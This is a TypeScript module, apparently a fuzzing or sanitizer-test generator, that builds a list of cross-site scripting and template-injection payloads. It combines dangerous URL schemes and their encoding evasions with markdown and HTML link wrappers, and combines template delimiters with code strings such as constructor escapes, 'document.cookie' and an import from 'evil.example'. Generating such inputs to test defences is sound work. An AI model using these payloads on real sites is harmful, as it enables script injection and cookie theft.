const RUN = "alert(1)";

const schemes = [
  ...[
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\u0001javascript:",
    " javascript:",
    "javascript\t:",
  ],
  ...[
    "javascript&colon;",
    "java&#x73;cript:",
    "javascript%3a",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
  ],
  ...[
    "data:image/svg+xml,",
    "blob:",
    "file:///",
    "view-source:javascript:",
    "feed:javascript:",
    "https:javascript:",
  ],
  ...[
    "//evil.example/",
    "https://evil.example/#javascript:",
    "javascript://evil.example/%0a",
    "livescript:",
    "mhtml:",
  ],
];
const links: ((address: string) => string)[] = [
  (to) => to,
  (to) => `[x](${to})`,
  (to) => `![x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `<${to}>`,
  (to) => `[x]: ${to}\n[x]`,
  (to) => `[![x](${to})](${to})`,
  (to) => `[x](${to} "x" onclick=${RUN})`,
  (to) => `<a href="${to}">x</a>`,
  (to) => `<iframe src='${to}'>`,
  (to) => `<svg><a xlink:href="${to}"><text>x`,
  (to) => `<form action=${to}><input type=submit>`,
  (to) => `<img srcset="${to} 1x">`,
  (to) => `<div style="background:url(${to})">`,
  (to) => `<math href="${to}">x`,
  (to) => `url:${to} lien`,
];

const templates: ((code: string) => string)[] = [
  ...[
    "{{ }}",
    "{{{ }}}",
    "\u0024{ }",
    "#{ }",
    "<%= %>",
    "<% %>",
    "[[ ]]",
    "{% %}",
    "@( )",
    "*{ }",
    "{# #}",
    "`\u0024{ }`",
  ].map((pair) => (code: string) => pair.replace(" ", code)),
  (code) => `<div ng-app>{{${code}}}</div>`,
  (code) => `<div v-html="'${code}'">`,
  (code) => `<div x-init="${code}">`,
  (code) => `"-${code}-"`,
  (code) => `';${code};//`,
  (code) => `\\";${code}//`,
  (code) => `"};${code};({"a":"`,
  (code) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"${code}"}}}`,
  (code) => `<style>*{x:expression(${code})}</style>`,
  (code) => `*/{}</style><script>${code}</script>`,
];
const codes = [
  ...[RUN, "constructor.constructor('alert(1)')()", "$eval.constructor('alert(1)')()", "7*7", "process.env"],
  ...[
    "window['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "import('//evil.example/x.js')",
    "eval(name)",
  ],
  ...[
    "document.cookie",
    "location='javascript:alert(1)'",
    "self.alert?.(1)",
    "this.constructor.constructor('alert(1)')()",
  ],
];

export function linksAndTemplates(): string[] {
  return [
    ...schemes.flatMap((scheme) => links.map((link) => link(`${scheme}${RUN}`))),
    ...templates.flatMap((template) => codes.map(template)),
  ];
}
